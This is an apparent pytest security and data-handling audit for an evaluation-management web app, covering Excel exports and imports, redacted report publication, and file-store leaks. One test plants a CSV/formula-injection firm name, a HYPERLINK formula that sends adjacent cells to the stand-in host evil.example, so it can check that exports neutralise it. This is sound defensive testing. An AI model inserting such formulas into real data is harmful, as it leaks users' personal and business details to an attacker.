"""Audit of what leaves the system as files (Excel exports, published reports) and what comes in (Excel imports,
uploads). Each test states a rule and fails on the defect it names."""
from __future__ import annotations

import io

import openpyxl
import pandas as pd
import sqlalchemy as sa

from evalhub.core import files
from evalhub.extensions import db
from tests import factories


def _cells(data: bytes, sheet: int = 0):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return list(workbook.worksheets[sheet].iter_rows())


def _job():
    from evalhub.core.models import Job

    db.session.rollback()
    return db.session.execute(sa.select(Job).order_by(Job.id.desc())).scalars().first()


# --- Excel exports: formula injection ----------------------------------------------------------------

def test_a_firm_named_as_a_formula_is_exported_as_text_not_as_a_live_formula(world, login):
    """OWASP "CSV/formula injection": a cell that a person typed must reach the bureau's Excel as text. A firm applies
    under the name ``=HYPERLINK("http://evil.example/?"&B2,"点击查看资质")`` (the registry accepts it: names refuse
    control characters only); the bureau exports its firm library (/firms?export=xlsx, core/exports.to_xlsx) and
    opens it — the cell is written as a *formula* (openpyxl data_type "f"), so Excel shows a link that sends the
    neighbouring cell (the USCC, phones) to the attacker, or runs DDE. Expected: a string cell (data_type "s") whose
    text is the name as typed (e.g. prefixed with a quote/apostrophe), never a formula."""
    evil = '=HYPERLINK("http://evil.example/?"&B2,"点击查看资质")'
    factories.firm(world.bz, name=evil)
    db.session.commit()
    response = login(world.bz_staff).get("/firms?export=xlsx")
    assert response.status_code == 200
    rows = _cells(response.data)
    header = [c.value for c in rows[0]]
    column = header.index("机构名称")
    cells = [row[column] for row in rows[1:] if "HYPERLINK" in str(row[column].value)]
    assert cells, "the firm is missing from its bureau's export"
    assert all(c.data_type != "f" for c in cells), \
        f"the firm's name is exported as a live Excel formula: {cells[0].value!r} (data_type {cells[0].data_type!r})"


# --- Excel imports: the row a message names ----------------------------------------------------------

def test_an_import_error_names_the_excel_row_even_after_a_blank_row(world, login):
    """registry/imports.py: "the error report lists every problem by row number in Chinese" — the number Excel shows
    at the left of the row (row 1 the header). A bureau's sheet often has a blank row between groups of firms:
    header (row 1), a good firm (row 2), a blank row (row 3), a firm whose USCC is wrong (row 4). ``read_sheet``
    drops the blank row and ``_run_import`` then counts the remaining rows from 2, so the report says
    "第 3 行" — the blank row — and the clerk looks for the mistake in the wrong place. Expected: row 4."""
    from evalhub.registry.imports import FIRM_COLUMNS
    from tests.test_registry_views import firm_row, upload

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(list(FIRM_COLUMNS))
    sheet.append([firm_row()[key] for key in FIRM_COLUMNS.values()])
    sheet.append([None] * len(FIRM_COLUMNS))  # row 3: blank
    sheet.append([firm_row(uscc="91652800MA0000000Z", name="第四行评价咨询有限公司")[key] for key in FIRM_COLUMNS.values()])
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = upload(login(world.bz_staff), "firms", buffer.getvalue())
    assert response.status_code == 302
    job = _job()
    assert job.status.value == "failed", job.result
    named = [(e["row"], e.get("name")) for e in job.result["errors"]]
    assert named == [(4, "第四行评价咨询有限公司")], f"the error names the wrong Excel row: {named} (the bad firm is on row 4)"


# --- the published (redacted) report ------------------------------------------------------------------

def _docx_with_properties(text: str, **properties) -> bytes:
    import docx

    document = docx.Document()
    for line in text.splitlines():
        document.add_paragraph(line)
    for name, value in properties.items():
        setattr(document.core_properties, name, value)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def test_the_public_copy_of_a_report_does_not_carry_the_authors_in_its_document_properties(world, client):
    """DOMAIN §2 step 6 / seed 000: the firm's report is published only "脱密后" (redacted). The names in a .docx's
    document properties (author, last modified by — docProps/core.xml) are not visible on the page, so the bureau
    that blacked out the names in the text does not see them; the system itself treats them as identifying
    (docs/rules.md: the collusion check compares "author, last modified by, company"). ``review.services.publish``
    stores the upload byte for byte and /public/reports/<id>/file serves it as is: anyone downloads the evaluator's
    and the bureau clerk's names. Expected: the public copy's core properties carry no author / last modified by."""
    from evalhub.review import services as R

    e = factories.accepted(world)
    data = _docx_with_properties(factories.report_text(), author="评价项目组 张伟 13899990000",
                                 last_modified_by="巴州财政局绩效科 李娜", comments="内部：已删去单位负责人姓名")
    publication = R.publish(e, world.bz_admin, filename="公开版.docx", data=data)
    db.session.commit()

    response = client.get(f"/public/reports/{publication.id}/file")
    assert response.status_code == 200
    import docx

    core = docx.Document(io.BytesIO(response.data)).core_properties
    leaked = {k: v for k, v in (("author", core.author), ("last_modified_by", core.last_modified_by),
                                ("comments", core.comments)) if v}
    assert not leaked, f"the public redacted report still names people in its document properties: {leaked}"


def test_the_original_upload_of_a_redacted_report_is_the_bureaus_alone(world, client, login):
    """The bureau's own upload of the redacted version (properties and all) is downloaded by the bureau side of the
    engagement only: its staff 200; the firm, the evaluated unit, another prefecture's staff and a visitor never."""
    from evalhub.review import services as R

    e = factories.accepted(world)
    R.publish(e, world.bz_admin, filename="公开版.docx",
              data=_docx_with_properties(factories.report_text(), author="巴州财政局绩效科 李娜"))
    unit = factories.unit_user(world, e.budget_unit.name, "unit.original")
    db.session.commit()
    url = f"/engagements/{e.id}/publication/upload"
    assert client.get(url).status_code == 302  # a visitor is sent to sign in
    login(world.bz_staff)
    assert client.get(url).status_code == 200
    for outsider in (world.firm_user, unit, world.kz_staff):
        login(outsider)
        assert client.get(url).status_code in (403, 404), outsider.username


def test_the_firms_unredacted_report_cannot_be_published_as_its_redacted_version(world, client):
    """DOMAIN §2 step 6 / seed 000 ("将第三方机构评价报告脱密后进行“双公开”"): what the public reads is the redacted
    version, never the report as the firm handed it in. ``review.services.publish`` accepts any .pdf/.docx: a clerk
    who picks the firm's accepted report file instead of the redacted one publishes it unchanged — byte for byte the
    same file (same sha256; ``files.store`` even hands back the firm's own StoredFile row) — and anyone downloads it
    from /public/reports/<id>/file. Expected: publishing the very file under review (a submitted version of this
    engagement's report) is refused with a Chinese message, and nothing is published."""
    from evalhub.core.errors import ValidationFailed
    from evalhub.review import services as R
    from evalhub.review.models import Publication, Submission, SubmissionKind

    e = factories.accepted(world)
    report = db.session.execute(sa.select(Submission).where(
        Submission.engagement_id == e.id, Submission.kind == SubmissionKind.REPORT)
        .order_by(Submission.version.desc())).scalars().first()
    original = files.read(report.file)
    try:
        publication = R.publish(e, world.bz_admin, filename="脱密版.docx", data=original)
        db.session.commit()
    except ValidationFailed:
        db.session.rollback()
        publication = None
    if publication is not None:
        response = client.get(f"/public/reports/{publication.id}/file")
        served_unchanged = response.status_code == 200 and response.data == original
        assert not served_unchanged, (
            "the firm's unredacted report was published as the redacted version and the public downloads it "
            f"byte for byte (publication {publication.id}, file {publication.redacted_file_id} = "
            f"submission's file {report.file_id})")
    assert db.session.execute(sa.select(sa.func.count(Publication.id)).where(
        Publication.engagement_id == e.id, Publication.redacted_file_id.is_not(None))).scalar_one() == 0


# --- Excel exports: the rows the list shows -------------------------------------------------------------

def test_the_review_export_has_the_rows_of_the_filtered_panel_list(world, login):
    """Every list has filters and an Excel export (DESIGN "The user interface"); the export is the list the user is
    looking at, all its pages (core/listing.py ``Listing.export``: "The whole list"). On 专家评审 (/reviews) a bureau
    filters 类型 = 评价报告; its 导出 Excel link (templates/review/panel_list.html) carries only the year, and
    ``review.views.review_export`` reads only ``year_filter`` (not PANEL_FILTERS' kind and status) — so the sheet
    holds the 实施方案 panels, their experts and scores too. Expected: following the filtered page's export link
    gives only 评价报告 rows."""
    import re
    from html import unescape

    factories.accepted(world)  # a work-plan panel and a report panel, both decided
    db.session.commit()
    client = login(world.bz_staff)
    page = client.get("/reviews?kind=report")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "评价报告" in html
    href = unescape(re.search(r'href="([^"]+)"[^>]*data-testid="export-reviews"', html).group(1))
    response = client.get(href)
    assert response.status_code == 200
    frame = pd.read_excel(io.BytesIO(response.data), dtype=str).fillna("")
    kinds = sorted(set(frame["评审类型"]))
    assert kinds == ["评价报告"], f"the export of the list filtered to 评价报告 ({href}) holds {kinds}"


# --- Excel imports: what stays behind ------------------------------------------------------------------

def _clear_text_in_store(app, needle: str) -> list[str]:
    """Every stored blob (or part of a zipped one: .xlsx/.docx) that holds ``needle`` in clear."""
    import zipfile
    from pathlib import Path

    found = []
    for path in Path(app.config["FILE_STORE"]).rglob("*"):
        if not path.is_file():
            continue
        data = path.read_bytes()
        if needle.encode() in data:
            found.append(str(path))
        if data[:4] == b"PK\x03\x04":
            with zipfile.ZipFile(io.BytesIO(data)) as package:
                found += [f"{path}!{name}" for name in package.namelist() if needle.encode() in package.read(name)]
    return found


def test_an_expert_import_leaves_no_identity_number_in_clear_in_the_file_store(app, world, login):
    """registry/models.py: an expert's identity number is kept only encrypted (``id_number_encrypted``), with a masked
    copy and a digest; registry/api.py: "18 位居民身份证号码（只加密保存，响应中仅返回脱敏形式）". A bureau imports
    its expert pool from Excel (/imports/experts, ``web.xlsx_import``): the workbook is stored as a StoredFile so that
    the job can read it, and is never removed — so after a successful import every expert's full identity number
    (and phone) lies in clear in the file store (and in every backup, core/backup.py copies every blob), forever.
    Expected: once the import job has finished, no blob holds the identity number in clear (the workbook is
    deleted, or kept encrypted)."""
    from evalhub.registry.imports import EXPERT_COLUMNS
    from evalhub.registry.models import Expert
    from tests.test_registry_views import upload, xlsx

    number = factories.id_number(birth="19680101")
    row = {"name": "导入专家甲", "id_number": number, "employer": "轮台县人民医院", "title": "中级", "degree": "本科",
           "years_in_field": "15", "birth_year": "1968", "fields": "医疗卫生", "phone": "13899990000",
           "email": "zhuanjia@example.cn"}
    response = upload(login(world.lt_staff), "experts", xlsx(EXPERT_COLUMNS, [row]))
    assert response.status_code == 302
    job = _job()
    assert job.status.value == "succeeded", (job.status, job.result)
    expert = db.session.execute(sa.select(Expert).where(Expert.name == "导入专家甲")).scalar_one()
    assert number not in (expert.id_number_encrypted or "")  # the database keeps it encrypted ...
    leaked = _clear_text_in_store(app, number)
    assert not leaked, f"... but the imported workbook keeps the full identity number in clear: {leaked}"


def test_a_plan_import_does_not_guess_between_two_budget_units_of_the_same_name(world, login):
    """Imports: "All rows are checked first; the error report lists every problem by row number in Chinese" and
    core/organisations.py: "plan imports find units by [name]". A unit's name is unique only within its bureau:
    库尔勒市 and 轮台县 each have a "人民医院". The 巴州 plan's workbook names "人民医院" as 被评价单位;
    ``procurement.imports._units_by_name`` builds {name: unit} over every unit below 巴州, so one of the two wins
    silently and the evaluation (its budget cut, its public report) is filed against a hospital nobody chose.
    Expected: the row is refused with a message that the name is ambiguous (and nothing is imported)."""
    from evalhub.core.models import BudgetUnit
    from evalhub.procurement import services as P
    from evalhub.procurement.models import PlanItem
    from tests.test_procurement_views import _plan_sheet, _row

    for bureau in (world.krl, world.lt):
        db.session.add(BudgetUnit(bureau_id=bureau.id, name="人民医院"))
    plan = P.get_or_create_plan(world.bz, 2026, world.bz_staff)
    db.session.commit()
    client = login(world.bz_staff)
    sheet = _plan_sheet([_row(评价对象名称="县级公立医院综合改革补助资金", 被评价单位="人民医院", 业务领域="医疗卫生")])
    response = client.post(f"/plans/{plan.id}/import", data={"file": (io.BytesIO(sheet), "计划.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    job = _job()
    items = db.session.execute(sa.select(PlanItem).where(PlanItem.plan_id == plan.id)).scalars().all()
    chosen = [f"{i.budget_unit.bureau.short_name}{i.budget_unit.name}" for i in items]
    assert job.status.value == "failed" and not items, (
        f"the ambiguous unit name was resolved silently: imported against {chosen} (job {job.status.value})")


def test_a_file_named_only_in_a_list_of_ids_is_referenced_and_not_discarded(world):
    """``files.discard`` deletes a file nothing names: a credit objection names its evidence in a JSON list of ids
    (``credit_objection.evidence_file_ids``), not by a foreign key, and that counts as naming it too."""
    from datetime import date

    from evalhub.core import files
    from evalhub.core.models import StoredFile
    from evalhub.credit import services as C
    from evalhub.procurement.models import EngagementState as S

    e = factories.contracted(world)
    e.state = S.ACCEPTED
    db.session.flush()
    C.ensure_national_calendar()
    rating = {r.firm_id: r for r in C.compute(world.bz, 2025, world.bz_admin)}[world.firm.id]
    C.publish(world.bz, 2025, world.bz_admin, today=date(2025, 11, 3))
    objection = C.object_to(rating, world.firm_user, "合同履行得分有误：实施方案实际按期提交，附回执。",
                            [("回执.txt", "实施方案提交回执".encode())], today=date(2025, 11, 4))
    db.session.commit()
    evidence = db.session.get(StoredFile, objection.evidence_file_ids[0])
    loose = files.store("其他.txt", "无人引用的文件".encode(), allowed=("txt",))
    db.session.commit()
    assert files.referenced(evidence) and not files.referenced(loose)
    assert files.discard(evidence) is False and files.discard(loose) is True
    db.session.commit()
    assert db.session.get(StoredFile, evidence.id) is not None
